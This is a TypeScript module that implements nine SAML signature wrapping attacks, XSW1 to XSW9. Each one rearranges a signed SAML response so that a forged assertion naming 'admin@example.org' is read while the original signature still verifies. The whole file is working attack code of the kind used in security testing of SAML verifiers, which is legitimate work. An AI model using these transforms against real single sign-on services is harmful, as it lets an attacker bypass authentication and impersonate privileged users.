// The family of signature wrapping: a signed part is kept where it verifies, and another one put where it is read. After the
// descriptions of XSW1 to XSW8 in "On Breaking SAML" (Somorovsky et al.) and of XSW9 in SAML Raider.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

/** Who the attacker wants to be. */
export const VICTIM = 'admin@example.org';

type Wrap = (document: Document) => void;

/** Each way, by its name. Those of the response come first. */
export const WRAPPINGS: Readonly<Record<string, Wrap>> = {
  'XSW1: the signed response within the signature of another': (document) => {
    const { response, signature } = partsOf(document);
    const original = withoutSignature(response);
    become(response, '_evil-response');
    signature.appendChild(original);
  },
  'XSW2: the signed response before the signature of another': (document) => {
    const { response, signature } = partsOf(document);
    const original = withoutSignature(response);
    become(response, '_evil-response');
    response.insertBefore(original, signature);
  },
  'XSW3: another assertion before the signed one': (document) => {
    const { response, assertion } = partsOf(document);
    const evil = withoutSignature(assertion);
    become(evil, '_evil-assertion');
    response.insertBefore(evil, assertion);
  },
  'XSW4: another assertion around the signed one': (document) => {
    const { response, assertion } = partsOf(document);
    const evil = withoutSignature(assertion);
    become(evil, '_evil-assertion');
    response.appendChild(evil);
    evil.appendChild(assertion);
  },
  'XSW5: another assertion with the signature, the signed one last': (document) => {
    const { response, assertion } = partsOf(document);
    response.appendChild(withoutSignature(assertion));
    become(assertion, '_evil-assertion');
  },
  'XSW6: another assertion with the signature, the signed one in that': (document) => {
    const { assertion } = partsOf(document);
    const original = withoutSignature(assertion);
    child(assertion, SIGNATURE, 'Signature').appendChild(original);
    become(assertion, '_evil-assertion');
  },
  'XSW7: another assertion in extensions': (document) => {
    const { response, assertion } = partsOf(document);
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    response.insertBefore(extensions, assertion);
    const evil = withoutSignature(assertion);
    become(evil, undefined);
    extensions.appendChild(evil);
  },
  'XSW8: the signed assertion in an object of the signature': (document) => {
    const { assertion } = partsOf(document);
    const original = withoutSignature(assertion);
    const object = document.createElementNS(SIGNATURE, 'Object');
    child(assertion, SIGNATURE, 'Signature').appendChild(object);
    object.appendChild(original);
    become(assertion, undefined);
  },
  'XSW9: two SignedInfo, the second for another assertion': (document) => {
    const { assertion } = partsOf(document);
    const signature = child(assertion, SIGNATURE, 'Signature');
    const info = child(signature, SIGNATURE, 'SignedInfo');
    signature.insertBefore(info.cloneNode(true), info);
    become(assertion, undefined);
  },
};

/** A response after one of them. */
export function wrapped(xml: string, wrap: Wrap): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  wrap(document);
  return new XMLSerializer().serializeToString(document);
}

interface Parts {
  readonly response: Element;
  readonly assertion: Element;
  /** Of the response where it has one, else of the assertion. */
  readonly signature: Element;
}

function partsOf(document: Document): Parts {
  const response = document.documentElement;
  const assertion = child(response, ASSERTION, 'Assertion');
  const signed = response.getElementsByTagNameNS(SIGNATURE, 'Signature').length > 1 ? response : assertion;
  return { response, assertion, signature: child(signed, SIGNATURE, 'Signature') };
}

function child(parent: Element, namespace: string, name: string): Element {
  const found = Array.from(parent.childNodes).find(
    (node) => (node as Element).localName === name && (node as Element).namespaceURI === namespace,
  );
  if (found === undefined) throw new Error(`<${parent.localName}> has no <${name}>.`);
  return found as Element;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(child(copy, SIGNATURE, 'Signature'));
  return copy;
}

/** Changes the subject to the victim, with a new ID. */
function become(element: Element, id: string | undefined): void {
  if (id !== undefined) element.setAttribute('ID', id);
  for (const nameId of Array.from(element.getElementsByTagNameNS(ASSERTION, 'NameID'))) {
    // Signed content inside stays unchanged.
    const holder = nameId.parentNode?.parentNode;
    if (holder === element || holder?.parentNode === element) nameId.textContent = VICTIM;
  }
}
